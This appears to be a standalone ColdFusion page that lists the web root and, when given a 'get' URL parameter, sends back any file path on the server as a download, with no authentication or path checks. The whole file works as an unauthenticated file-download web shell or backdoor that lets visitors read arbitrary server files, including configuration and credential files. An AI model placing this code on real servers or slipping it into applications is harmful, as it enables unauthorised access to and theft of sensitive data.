<cfsetting enablecfoutputonly="yes">
<cfif IsDefined("get")>
	<cfheader name="Content-Disposition" value="attachment; filename=#GetFileFromPath(get)#">
	<cfcontent file="#get#" type="application/octet-stream" deletefile="no">
</cfif>
<cfdirectory action="list" directory="#ExpandPath('/')#" name="ls">
<cfoutput query="ls"><a href="?get=#URLEncodedFormat(ls.directory & '/' & ls.name)#">#ls.name#</a><br></cfoutput>
